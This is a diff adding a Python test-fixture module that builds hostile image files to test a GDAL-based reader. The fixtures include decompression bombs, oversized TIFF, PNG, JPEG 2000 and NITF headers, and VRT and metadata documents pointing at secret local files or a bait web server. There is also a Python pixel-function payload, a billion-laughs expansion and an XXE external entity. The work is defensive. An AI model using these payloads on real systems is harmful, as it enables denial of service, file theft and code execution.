@@ -1,0 +1,338 @@
+"""Files that are made to harm who opens them: bombs, documents that name other files, images with planted company."""
+
+import struct
+import zlib
+from collections.abc import Callable
+from functools import partial
+from pathlib import Path
+from typing import NamedTuple
+
+import numpy as np
+from osgeo import gdal
+
+from raster_files import pattern, write_image, write_sicd
+from security.tiff_files import GDAL_METADATA, TILES, plain_tags, tiled_tags, write_tiff
+
+SIDE = 64
+
+
+class Bait(NamedTuple):
+    """Where a file tries to lead: a web server, and a directory with a secret image in it."""
+
+    url: str
+    directory: Path
+
+    @property
+    def secret(self) -> Path:
+        return self.directory / "secret.tif"
+
+
+class Hostile(NamedTuple):
+    """A file, how it is written, and a part of the reason why it fails; None where it is read as what it is."""
+
+    name: str
+    write: Callable[[Path, Bait], object]
+    reason: str | None
+
+
+def hostile_files() -> list[Hostile]:
+    return [*_bombs(), *_documents(), *_neighbours(), *_metadata()]
+
+
+# Bombs --------------------------------------------------------------------------------------------------------------
+
+TOO_LARGE, UNREADABLE = "is too large", "is not a readable image"
+
+
+def _bombs() -> list[Hostile]:
+    return [
+        Hostile("sparse.tif", lambda path, _: write_tiff(path, tiled_tags(2**20, 900_000, 256, 256, 9)), None),
+        Hostile("block.tif", lambda path, _: write_tiff(path, tiled_tags(2**20, 900_000, 2**15, 2**15)), TOO_LARGE),
+        Hostile("long.tif", lambda path, _: write_tiff(path, tiled_tags(2**31 - 16, 16, 2**24, 16)), TOO_LARGE),
+        Hostile("bands.tif", lambda path, _: write_tiff(path, {**plain_tags(16, 16), 277: 60_000}), TOO_LARGE),
+        Hostile("count.tif", _claims_many_tiles, UNREADABLE),
+        Hostile("deflate.tif", _deflate_bomb, None),
+        Hostile("interlaced.png", lambda path, _: path.write_bytes(_png(40_000, 40_000, 1)), None),
+        Hostile("wide.png", lambda path, _: path.write_bytes(_png(2**31 - 1, 2**31 - 1, 0)), UNREADABLE),
+        Hostile(
+            "text.png", lambda path, _: path.write_bytes(_png(SIDE, SIDE, 0, zlib.compress(bytes(2**28), 9))), None
+        ),
+        Hostile("tiles.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 1)), TOO_LARGE),
+        Hostile("tiles64.jp2", lambda path, _: path.write_bytes(codestream(255 * 64, 257 * 64, 64, 64)), TOO_LARGE),
+        Hostile("components.jp2", lambda path, _: path.write_bytes(codestream(64, 64, 64, 16_384)), TOO_LARGE),
+        Hostile("huge-tile.jp2", lambda path, _: path.write_bytes(codestream(2**20, 900_000, 2**20, 1)), TOO_LARGE),
+        Hostile("code-blocks.jp2", lambda path, _: path.write_bytes(codestream(8192, 8192, 8192, 1, 0)), TOO_LARGE),
+        Hostile("boxed.jp2", lambda path, _: path.write_bytes(jp2(codestream(255 * 64, 257 * 64, 64, 64))), TOO_LARGE),
+        Hostile("boxes.jp2", lambda path, _: path.write_bytes(jp2(b"", _nested_boxes(60_000))), UNREADABLE),
+        Hostile("jp2-in.ntf", _nitf_with_codestream, TOO_LARGE),
+        Hostile("blocks.ntf", lambda path, _: path.write_bytes(_nitf_header_of(99_990, 9999, 10)), UNREADABLE),
+        Hostile("huge.ntf", lambda path, _: path.write_bytes(_nitf_header_of(99_999_999, 1, 0)), TOO_LARGE),
+        Hostile("progressive.jpg", _progressive_jpeg, None),
+    ]
+
+
+def _claims_many_tiles(path: Path, _: Bait) -> None:
+    write_tiff(path, tiled_tags(2**20, 900_000, 16, 16, 1), counts={TILES: 2**32, 325: 2**32})
+
+
+def _deflate_bomb(path: Path, _: Bait) -> None:
+    """256 MiB of zeros in one tile of 256 KiB, which is as large as a tile may be."""
+    body = zlib.compress(bytes(2**28), 9)
+    tags = {**tiled_tags(2**14, 2**14, 2**14, 2**14), 259: 8, TILES: 0, 325: len(body)}
+    write_tiff(path, tags, body)
+
+
+def _png(width: int, height: int, interlace: int, text: bytes = b"") -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, interlace)
+    texts = chunk(b"zTXt", b"title\0\0" + text) if text else b""
+    pixels = zlib.compress(bytes(min(height, 4096) * (min(width, 4096) + 1)), 9)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + texts + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+
+
+def codestream(width: int, height: int, tile: int, components: int, code_block: int = 4) -> bytes:
+    """Return a JPEG 2000 codestream with one empty tile; code-blocks are 2^(code_block + 2) pixels wide and high."""
+    size = struct.pack(">HHIIIIIIIIH", 38 + 3 * components, 0, width, height, 0, 0, tile, tile, 0, 0, components)
+    coding = struct.pack(">HHBBHBBBBBB", 0xFF52, 12, 0, 0, 1, 0, 5, code_block, code_block, 0, 1)
+    quantization = struct.pack(">HHB", 0xFF5C, 3 + 16, 0x40) + b"\x48" * 16
+    tile_part = struct.pack(">HHHIBB", 0xFF90, 10, 0, 0, 0, 1) + b"\xff\x93" + bytes(50)
+    return b"\xff\x4f\xff\x51" + size + b"\x07\x01\x01" * components + coding + quantization + tile_part + b"\xff\xd9"
+
+
+def box(kind: bytes, content: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(content)) + kind + content
+
+
+def jp2(stream: bytes, *boxes: bytes) -> bytes:
+    """Return a JP2 file of one grey band, with more boxes before the codestream."""
+    width, height = struct.unpack(">II", stream[8:16]) if stream else (SIDE, SIDE)
+    header = box(b"ihdr", struct.pack(">IIHBBBB", height, width, 1, 7, 7, 0, 0))
+    colour = box(b"colr", struct.pack(">BBBI", 1, 0, 0, 17))
+    signature = box(b"jP  ", b"\r\n\x87\n") + box(b"ftyp", b"jp2 \0\0\0\0jp2 ")
+    end = box(b"jp2c", stream) if stream else b""
+    return signature + box(b"jp2h", header + colour) + b"".join(boxes) + end
+
+
+def _nested_boxes(depth: int) -> bytes:
+    label = box(b"lbl ", b"gml.data")
+    sizes = range(len(label) + 8 * depth, len(label), -8)
+    return b"".join(struct.pack(">I", size) + b"asoc" for size in sizes) + label
+
+
+def _small(path: Path, driver: str = "GTiff", options: tuple[str, ...] = (), **georeference: object) -> Path:
+    return write_image(path, pattern(1, SIDE, SIDE), driver, options, **georeference)
+
+
+def _nitf_with_codestream(path: Path, _: Bait) -> None:
+    """A NITF whose image says that its pixels are JPEG 2000, and so they are."""
+    _small(path, "NITF", ("IC=C8",))
+    body = path.read_bytes()
+    path.write_bytes(body[: body.index(b"\xff\x4f\xff\x51")] + codestream(255 * 64, 257 * 64, 64, 64))
+
+
+def _nitf_header_of(side: int, blocks: int, block_side: int) -> bytes:
+    """Return a NITF without pixels that claims so many of them."""
+    name = f"/vsimem/nitf-{side}"
+    _small(Path(name), "NITF")
+    file = gdal.VSIFOpenL(name, "rb")
+    body = bytes(gdal.VSIFReadL(1, 10_000, file))
+    gdal.VSIFCloseL(file)
+    gdal.Unlink(name)
+    claimed = f"{side:08}{side:08}INT"
+    body = body.replace(f"{SIDE:08}{SIDE:08}INT".encode(), claimed.encode())
+    return body.replace(
+        f"B00010001{SIDE:04}{SIDE:04}".encode(), f"B{blocks:04}{blocks:04}{block_side:04}{block_side:04}".encode()
+    )
+
+
+def _progressive_jpeg(path: Path, _: Bait) -> None:
+    """A picture that is decoded as a whole, whichever part of it is wanted: 60 MB of coefficients."""
+    memory = gdal.GetDriverByName("MEM").Create("", 5_500, 5_500, 1, gdal.GDT_Byte)
+    gdal.GetDriverByName("JPEG").CreateCopy(str(path), memory, options=["PROGRESSIVE=YES", "QUALITY=10"])
+
+
+# Documents that are no image ----------------------------------------------------------------------------------------
+
+
+def _documents() -> list[Hostile]:
+    return [Hostile(name, _writer(text), "is a GDAL VRT|" + UNREADABLE) for name, text in _TEXTS.items()]
+
+
+def _writer(text: str) -> Callable[[Path, Bait], object]:
+    return lambda path, bait: path.write_text(text.format(url=bait.url, secret=bait.secret, directory=bait.directory))
+
+
+_VRT = '<VRTDataset rasterXSize="64" rasterYSize="64"><VRTRasterBand dataType="Byte" band="1"{band}</VRTDataset>'
+_SIMPLE = '><SimpleSource><SourceFilename relativeToVRT="0">{}</SourceFilename></SimpleSource></VRTRasterBand>'
+_TEXTS = {
+    "vrt-web.tif": _VRT.replace("{band}", _SIMPLE.replace("{}", "/vsicurl/{url}/a.tif")),
+    "vrt-file.tif": _VRT.replace("{band}", _SIMPLE.replace("{}", "{secret}")),
+    "vrt-blank.tif": "\n\n  " + _VRT.replace("{band}", _SIMPLE.replace("{}", "{secret}")),
+    "vrt-raw.ntf": _VRT.replace(
+        "{band}", ' subClass="VRTRawRasterBand"><SourceFilename>{secret}</SourceFilename></VRTRasterBand>'
+    ),
+    "vrt-python.jp2": _VRT.replace(
+        "{band}",
+        ' subClass="VRTDerivedRasterBand"><PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>Python'
+        "</PixelFunctionLanguage><PixelFunctionCode>import os; open('{directory}/owned', 'w')</PixelFunctionCode>"
+        "</VRTRasterBand>",
+    ),
+    "vrt-warped.png": '<VRTDataset rasterXSize="64" rasterYSize="64" subClass="VRTWarpedDataset"><GDALWarpOptions>'
+    "<SourceDataset>{secret}</SourceDataset></GDALWarpOptions></VRTDataset>",
+    "wms.tif": '<GDAL_WMS><Service name="WMS"><ServerUrl>{url}/wms?</ServerUrl></Service></GDAL_WMS>',
+    "tms.tif": '<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}</ServerUrl></Service></GDAL_WMS>',
+    "wcs.tif": "<WCS_GDAL><ServiceURL>{url}/wcs?</ServiceURL><CoverageName>a</CoverageName></WCS_GDAL>",
+    "wmts.tif": "<GDAL_WMTS><GetCapabilitiesUrl>{url}/wmts</GetCapabilitiesUrl></GDAL_WMTS>",
+    "gti.tif": "<GDALTileIndexDataset><IndexDataset>{url}/index.gpkg</IndexDataset></GDALTileIndexDataset>",
+    "stac.tif": '{{"stac_version": "1.0.0", "assets": {{"a": {{"href": "{url}/a.tif"}}}}}}',
+    "eedai.tif": '{{"type": "FeatureCollection", "features": [], "url": "{url}"}}',
+    "subdataset.tif": 'GTIFF_DIR:1:{secret}',
+    "zarr.tif": '{{"zarr_format": 2, "shape": [64, 64], "path": "{url}"}}',
+    "pds.tif": "PDS_VERSION_ID = PDS3\n^IMAGE = \"{secret}\"\nEND\n",
+    "ermapper.tif": 'DatasetHeader Begin\n\tDataFile = "{secret}"\nDatasetHeader End\n',
+    "envi.tif": "ENVI\nsamples = 64\nlines = 64\nbands = 1\ndata type = 1\n",
+    "mapserver.tif": "! ArcGIS Cache\n{secret}\n",
+    "derived.tif": "DERIVED_SUBDATASET:LOGAMPLITUDE:{secret}",
+    "empty.tif": "",
+    "zip.tif": "PK\x03\x04{secret}",
+}  # fmt: skip
+
+
+# Images with neighbours that would change what they mean -------------------------------------------------------------
+
+_PAM = (
+    "<PAMDataset><GeoTransform>10, 0.1, 0, 20, 0, -0.1</GeoTransform><Metadata domain='OVERVIEWS'>"
+    "<MDI key='OVERVIEW_FILE'>/vsicurl/{url}/ovr.tif</MDI></Metadata><Metadata><MDI key='planted'>yes</MDI></Metadata>"
+    "</PAMDataset>"
+)
+_WORLD = "0.1\n0\n0\n-0.1\n10\n20\n"
+_NEIGHBOURS = {
+    ".aux.xml": _PAM,
+    ".ovr": _TEXTS["vrt-web.tif"],
+    ".msk": _TEXTS["vrt-file.tif"],
+    ".aux": "EHFA_HEADER_TAG",
+    ".r1": _TEXTS["vrt-web.tif"],
+    ".hdr": "ENVI",
+    ".imd": "BEGIN_GROUP = IMAGE_1",
+    ".xml": "<isd/>",
+}
+_WORLD_FILES = (".tfw", ".wld", ".pgw", ".jgw", ".j2w", ".nfw", ".ntfw", ".tifw", ".RPB", "_RPC.TXT", ".tab", ".rpb")
+
+
+def _neighbours() -> list[Hostile]:
+    drivers = {"tif": "GTiff", "ntf": "NITF", "png": "PNG", "jpg": "JPEG", "jp2": "JP2OpenJPEG"}
+    return [
+        Hostile(f"neighbours.{suffix}", lambda path, bait, driver=driver: _with_neighbours(path, bait, driver), None)
+        for suffix, driver in drivers.items()
+    ]
+
+
+def _with_neighbours(path: Path, bait: Bait, driver: str) -> None:
+    _small(path, driver)
+    for suffix, text in _NEIGHBOURS.items():
+        _writer(text)(path.with_name(path.name + suffix), bait)
+        _writer(text)(path.with_suffix(suffix), bait)
+    for suffix in _WORLD_FILES:
+        path.with_name(path.stem + suffix).write_text(_WORLD)
+
+
+# Images with metadata that name other files --------------------------------------------------------------------------
+
+
+def _metadata() -> list[Hostile]:
+    items = [
+        ("overview-web", "OVERVIEWS", "OVERVIEW_FILE", "/vsicurl/{url}/ovr.tif"),
+        ("overview-file", "OVERVIEWS", "OVERVIEW_FILE", "{secret}"),
+        ("overview-memory", "OVERVIEWS", "OVERVIEW_FILE", "MEM:::DATAPOINTER=4096,PIXELS=64,LINES=64"),
+        ("geolocation", "GEOLOCATION", "X_DATASET", "/vsicurl/{url}/x.tif"),
+        ("subdatasets", "SUBDATASETS", "SUBDATASET_1_NAME", "{secret}"),
+        ("xml-vrt", "xml:VRT", "a", _TEXTS["vrt-web.tif"]),
+        ("rpc", "RPC", "LINE_OFF", "1e999"),
+    ]
+    return [
+        *(Hostile(f"{name}.tif", partial(_tagged, item=item), None) for name, *item in items),
+        Hostile("deep-xml.tif", lambda path, _: _metadata_text(path, b"<a>" * 300_000), None),
+        Hostile("long-xml.tif", lambda path, _: _metadata_text(path, b"x" * 1_000_000), None),
+        Hostile("gml.jp2", _gml, None),
+        Hostile("laughs.ntf", lambda path, _: _sicd_with(path, _LAUGHS), None),
+        Hostile("entity.ntf", _external_entity, None),
+        Hostile("grids.tif", _grids, None),
+    ]
+
+
+def _tagged(path: Path, bait: Bait, item: list[str]) -> None:
+    domain, key, value = item
+    text = value.format(url=bait.url, secret=bait.secret).replace("<", "&lt;")
+    document = f'<GDALMetadata><Item name="{key}" domain="{domain}">{text}</Item></GDALMetadata>'
+    _metadata_text(path, document.encode())
+
+
+def _metadata_text(path: Path, text: bytes) -> None:
+    write_tiff(path, {**plain_tags(SIDE, SIDE), GDAL_METADATA: text}, pattern(1, SIDE, SIDE).tobytes())
+
+
+def _gml(path: Path, bait: Bait) -> None:
+    """A JP2 whose georeference is said to stand on a web server, in a schema that stands there as well."""
+    grid = (
+        f'<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xsi="http://www.w3.org/2001/XMLSchema-'
+        f'instance" xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="a {bait.url}/a.xsd">'
+        f'<gml:featureMember xlink:href="{bait.url}/b.gml"><gml:RectifiedGridCoverage><gml:rectifiedGridDomain>'
+        f'<gml:RectifiedGrid dimension="2"><gml:limits><gml:GridEnvelope><gml:low>0 0</gml:low><gml:high>63 63'
+        f'</gml:high></gml:GridEnvelope></gml:limits><gml:origin><gml:Point srsName="{bait.url}/srs.xml"><gml:pos>1 2'
+        f"</gml:pos></gml:Point></gml:origin><gml:offsetVector>0.1 0</gml:offsetVector><gml:offsetVector>0 0.1"
+        f"</gml:offsetVector></gml:RectifiedGrid></gml:rectifiedGridDomain></gml:RectifiedGridCoverage>"
+        f"</gml:featureMember></gml:FeatureCollection>"
+    )
+    instance = box(b"asoc", box(b"lbl ", b"gml.root-instance") + box(b"xml ", grid.encode()))
+    _small(path, "JP2OpenJPEG")
+    body = path.read_bytes()
+    at = body.index(b"jp2c") - 4
+    path.write_bytes(body[:at] + box(b"asoc", box(b"lbl ", b"gml.data") + instance) + body[at:])
+
+
+_LAUGHS = "<!DOCTYPE S [<!ENTITY a0 'ha'>{}]>".format(
+    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
+)
+
+
+def _sicd_with(path: Path, doctype: str) -> None:
+    """A SICD document with a document type before it, as long as the document whose place it takes."""
+    write_sicd(path, SIDE, SIDE)
+    body = path.read_bytes()
+    start = body.index(b"<SICD")
+    end = body.index(b"</SICD>") + len("</SICD>")
+    document = (doctype + "<SICD>" + ("&a11;" if "a11" in doctype else "&x;") + "</SICD>").encode()
+    path.write_bytes(body[:start] + document.ljust(end - start) + body[end:])
+
+
+def _external_entity(path: Path, bait: Bait) -> None:
+    _sicd_with(
+        path, f"<!DOCTYPE S [<!ENTITY x SYSTEM '{bait.directory}/secret.txt'><!ENTITY % y SYSTEM '{bait.url}/x'> %y;]>"
+    )
+
+
+def _grids(path: Path, bait: Bait) -> None:
+    """A GeoTIFF whose coordinate system is to be shifted by a grid that lies elsewhere."""
+    grids = f"{bait.secret},{bait.url}/grid.tif"
+    system = (
+        'PROJCS["x",GEOGCS["y",DATUM["z",SPHEROID["GRS 1980",6378137,298.257],EXTENSION["PROJ4_GRIDS",'
+        f'"{grids}"]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],'
+        'PROJECTION["Transverse_Mercator"],PARAMETER["central_meridian",3],PARAMETER["scale_factor",0.9996],'
+        'PARAMETER["false_easting",500000],UNIT["metre",1],'
+        f'EXTENSION["PROJ4","+proj=utm +zone=31 +nadgrids={grids} +units=m"]]'
+    )
+    citation = f"ESRI PE String = {system}|".encode()
+    keys = [1, 1, 0, 4, 1024, 0, 1, 1, 1025, 0, 1, 1, 3072, 0, 1, 32767, 3073, 34737, len(citation), 0]
+    tags = {**plain_tags(SIDE, SIDE), 34737: citation}
+    write_geo_tiff(path, tags, keys)
+
+
+def write_geo_tiff(path: Path, tags: dict[int, int | bytes | list[int]], keys: list[int]) -> None:
+    """Write a TIFF of a small grid of pixels with GeoTIFF keys (OGC 19-008r4)."""
+    doubles = {33550: [0.5, 0.5, 0.0], 33922: [0.0, 0.0, 0.0, 500_000.0, 5_400_000.0, 0.0]}
+    bits = {tag: [int(word) for word in np.asarray(values).view(np.uint64)] for tag, values in doubles.items()}
+    write_tiff(
+        path, {**tags, **bits, 34735: keys}, pattern(1, SIDE, SIDE).tobytes(), kinds={33550: 12, 33922: 12, 34735: 3}
+    )
